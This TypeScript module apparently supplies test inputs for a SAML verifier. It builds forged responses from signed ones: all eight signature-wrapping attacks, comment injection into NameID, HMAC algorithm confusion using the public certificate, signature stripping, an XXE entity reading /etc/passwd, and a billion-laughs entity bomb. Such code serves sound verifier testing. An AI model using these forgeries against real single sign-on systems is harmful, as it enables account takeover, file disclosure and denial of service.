import { createHmac } from 'node:crypto'
import { DOMParser, type Document, type Element, XMLSerializer } from '@xmldom/xmldom'
import { algorithms } from './sign-xml.ts'
import type { SigningKey } from './signing-key.ts'

/** Turns a healthy signed response into an attack. The forged name is `forgedName`. */
export type Attack = (xml: string) => string

export const forgedName = 'admin@evil.example'

/** The eight shapes of signature wrapping (Somorovsky and others, “On Breaking SAML”, 2012): 1 and 2 need a signed response, 3 to 8 a signed assertion. */
export const wrappings: Readonly<Record<string, { readonly needs: 'response' | 'assertion'; readonly attack: Attack }>> = {
  'XSW1: the signed response inside the signature of a forged one': {
    needs: 'response',
    attack: changed((document) => {
      const response = rootOf(document)
      const original = cloneOf(response)
      drop(signatureOf(original))
      forge(response, '_evil-response')
      signatureOf(response).appendChild(original)
    })
  },
  'XSW2: the signed response before the signature of a forged one': {
    needs: 'response',
    attack: changed((document) => {
      const response = rootOf(document)
      const original = cloneOf(response)
      drop(signatureOf(original))
      forge(response, '_evil-response')
      response.insertBefore(original, signatureOf(response))
    })
  },
  'XSW3: a forged assertion before the signed one': {
    needs: 'assertion',
    attack: changed((document) => {
      const assertion = assertionOf(document)
      rootOf(document).insertBefore(forgedCopy(assertion), assertion)
    })
  },
  'XSW4: the signed assertion inside a forged one': {
    needs: 'assertion',
    attack: changed((document) => {
      const assertion = assertionOf(document)
      const forged = forgedCopy(assertion)
      rootOf(document).insertBefore(forged, assertion)
      forged.appendChild(assertion)
    })
  },
  'XSW5: the signature in a forged assertion, its original behind': {
    needs: 'assertion',
    attack: changed((document) => {
      const assertion = assertionOf(document)
      const original = cloneOf(assertion)
      drop(signatureOf(original))
      forge(assertion, '_evil-assertion')
      rootOf(document).appendChild(original)
    })
  },
  'XSW6: the original inside the signature of a forged assertion': {
    needs: 'assertion',
    attack: changed((document) => {
      const assertion = assertionOf(document)
      const original = cloneOf(assertion)
      drop(signatureOf(original))
      forge(assertion, '_evil-assertion')
      signatureOf(assertion).appendChild(original)
    })
  },
  'XSW7: a forged assertion inside Extensions': {
    needs: 'assertion',
    attack: changed((document) => {
      const extensions = document.createElementNS('urn:oasis:names:tc:SAML:2.0:protocol', 'samlp:Extensions')
      const assertion = assertionOf(document)
      const forged = cloneOf(assertion)
      drop(signatureOf(forged))
      forge(forged, idOf(assertion))
      extensions.appendChild(forged)
      rootOf(document).insertBefore(extensions, assertion)
    })
  },
  'XSW8: the original inside an Object of a forged assertion’s signature': {
    needs: 'assertion',
    attack: changed((document) => {
      const assertion = assertionOf(document)
      const original = cloneOf(assertion)
      drop(signatureOf(original))
      forge(assertion, '_evil-assertion')
      const object = document.createElementNS('http://www.w3.org/2000/09/xmldsig#', 'Object')
      object.appendChild(original)
      signatureOf(assertion).appendChild(object)
    })
  },
  'XSW7 with an id of its own': {
    needs: 'assertion',
    attack: changed((document) => {
      const extensions = document.createElementNS('urn:oasis:names:tc:SAML:2.0:protocol', 'samlp:Extensions')
      const assertion = assertionOf(document)
      extensions.appendChild(forgedCopy(assertion))
      rootOf(document).insertBefore(extensions, assertion)
    })
  }
}

/** `admin@evil.example<!---->.corp.example`: signed as a whole, and cut at the comment by readers that take the first text only. */
export const commentInNameId: Attack = (xml) => xml.replace(/(<NameID[^>]*>[^<]{4})/, '$1<!---->')
export const commentInAudience: Attack = (xml) => xml.replace(/(<Audience>[^<]{10})/, '$1<!-- x -->')
export const commentInAttribute: Attack = (xml) => xml.replace(/(<AttributeValue>[^<]{2})/, '$1<!-- x -->')

export const strippedSignature: Attack = changed((document) => drop(signatureOf(assertionOf(document))))
export const changedName: Attack = (xml) => xml.replace(/(<NameID[^>]*>)[^<]*/, `$1${forgedName}`)
export const changedDigest: Attack = (xml) =>
  xml.replace(/(<DigestValue>)(.)/, (_all, tag: string, first: string) => tag + (first === 'A' ? 'B' : 'A'))
export const documentType: Attack = (xml) => `<!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/passwd">]>${xml.replace('Anna', '&e;')}`
export const entityBomb: Attack = (xml) =>
  `<!DOCTYPE r [<!ENTITY a "aaaaaaaaaa">${'bcdefghij'.replace(/./g, (name, at: number) => `<!ENTITY ${name} "${`&${'abcdefghij'.charAt(at)};`.repeat(10)}">`)}]>${xml.replace('Anna', '&j;')}`

export const duplicateId: Attack = changed((document) => {
  const assertion = assertionOf(document)
  rootOf(document).setAttribute('ID', idOf(assertion))
})

export const severalSignatures: Attack = changed((document) => {
  const signature = signatureOf(assertionOf(document))
  signature.parentNode?.insertBefore(signature.cloneNode(true), signature)
})

export const signatureMisplaced: Attack = changed((document) => {
  const assertion = assertionOf(document)
  const subject = childNamed(assertion, 'Subject')
  subject.appendChild(signatureOf(assertion))
})

/** Signs with the public certificate as the secret of an HMAC: whoever lets the document choose the algorithm accepts it. */
export function hmacConfusion(key: SigningKey): Attack {
  return (xml) => {
    const confused = changedName(xml).replace(/(<SignatureMethod Algorithm=")[^"]*/, `$1${algorithms.hmacSha256}`)
    const value = createHmac('sha256', key.certificatePem).update(confused).digest('base64')
    return confused.replace(/(<SignatureValue>)[^<]*/, `$1${value}`)
  }
}

function changed(change: (document: Document) => void): Attack {
  return (xml) => {
    const document = new DOMParser().parseFromString(xml, 'text/xml')
    change(document)
    return new XMLSerializer().serializeToString(document)
  }
}

function forgedCopy(assertion: Element): Element {
  const copy = cloneOf(assertion)
  drop(signatureOf(copy))
  forge(copy, '_evil-assertion')
  return copy
}

function forge(element: Element, id: string): void {
  element.setAttribute('ID', id)
  for (const nameId of Array.from(element.getElementsByTagNameNS('*', 'NameID'))) nameId.textContent = forgedName
}

function rootOf(document: Document): Element {
  return present(document.documentElement, 'root')
}

function assertionOf(document: Document): Element {
  return childNamed(rootOf(document), 'Assertion')
}

function signatureOf(element: Element): Element {
  return childNamed(element, 'Signature')
}

function childNamed(parent: Element, name: string): Element {
  const found = Array.from(parent.childNodes).find((node) => node.nodeType === 1 && (node as Element).localName === name)
  return present(found, name) as Element
}

function cloneOf(element: Element): Element {
  return element.cloneNode(true) as Element
}

function drop(element: Element): void {
  present(element.parentNode, 'parent').removeChild(element)
}

function idOf(element: Element): string {
  return present(element.getAttribute('ID'), 'ID')
}

function present<T>(value: T | null | undefined, what: string): T {
  if (value === null || value === undefined) throw new TypeError(`The response to attack has no ${what}`)
  return value
}
